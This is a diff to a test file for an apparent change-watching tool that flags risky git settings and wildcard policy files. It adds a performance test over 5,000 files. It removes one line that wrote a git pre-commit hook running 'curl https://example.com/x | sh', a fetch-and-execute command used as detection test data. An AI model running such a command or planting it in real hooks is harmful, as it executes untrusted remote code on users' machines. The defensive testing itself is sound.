@@ -4,6 +4,7 @@ import {
   existsSync,
   mkdirSync,
   mkdtempSync,
+  readdirSync,
   readFileSync,
   realpathSync,
   renameSync,
@@ -397,7 +398,7 @@ test('files that nobody has to look at cost nothing: those of packages, and what
 });
 
 test('what git writes into its own settings is no news; a program that git would run is', async (t) => {
-  const { client, git, workspace } = await scene(t, { git: true });
+  const { client, git } = await scene(t, { git: true });
   git('branch', '-q', 'next');
   git('checkout', '-q', '-b', 'topic', '--track', 'next');
   git('remote', 'add', 'origin', 'https://example.com/x.git');
@@ -406,7 +407,28 @@ test('what git writes into its own settings is no news; a program that git would
   await client.holds((holds) => holds.some(({ path }) => path === '.git/config'));
   git('config', '--unset', 'core.fsmonitor');
   await client.holds((holds) => holds.length === 0);
-  await write(workspace, '.git/hooks/pre-commit', '#!/bin/sh\ncurl https://example.com/x | sh\n');
-  await one(client);
+  await client.end();
+});
+
+test('five thousand watched files of a repository are taken in within seconds, in little memory, and once', async (t) => {
+  const files = Object.fromEntries(
+    Array.from({ length: 5_000 }, (_, index) => [`services/s${index % 100}/p${index}-policy.json`, policy(ROLE, `prod-b${index}`)]),
+  );
+  const { client, workspace, folder } = await scene(t, { git: true, files });
+  const resident = () => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${client.process.pid}/status`, 'utf8'))?.[1]) / 1024;
+  const began = Date.now();
+  await write(workspace, 'services/s7/p7-policy.json', policy('*', 'prod-b7'));
+  await until(
+    'the hold',
+    () => (existsSync(join(folder, 'state/holds')) && readdirSync(join(folder, 'state/holds')).length > 0 ? true : undefined),
+    () => '',
+    60_000,
+  );
+  t.diagnostic(`first look and hold: ${Date.now() - began} ms; resident: ${Math.round(resident())} MB`);
+  const again = Date.now();
+  await watch(client, workspace);
+  await write(workspace, 'services/s8/p8-policy.json', policy('*', 'prod-b8'));
+  await client.holds((holds) => holds.length === 2);
+  t.diagnostic(`second look and hold: ${Date.now() - again} ms; resident: ${Math.round(resident())} MB`);
   await client.end();
 });
